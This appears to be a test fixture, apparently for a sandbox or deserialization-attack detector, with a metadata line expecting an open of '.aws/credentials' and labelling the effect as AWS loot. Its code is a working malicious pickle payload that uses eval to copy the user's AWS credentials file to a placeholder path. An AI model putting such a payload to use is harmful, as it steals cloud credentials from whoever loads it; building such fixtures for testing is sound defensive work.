#: {"class": "pickle", "loader": "script", "expect": [["open", "\\.aws/credentials$"]], "effect": {"loot": "aws"}}
import pickle
pickle.loads(b"cbuiltins\neval\n(S'open(\"@LOOT@\",\"w\").write(open(\"" + HOME.encode() + b"/.aws/credentials\").read())'\ntR.")
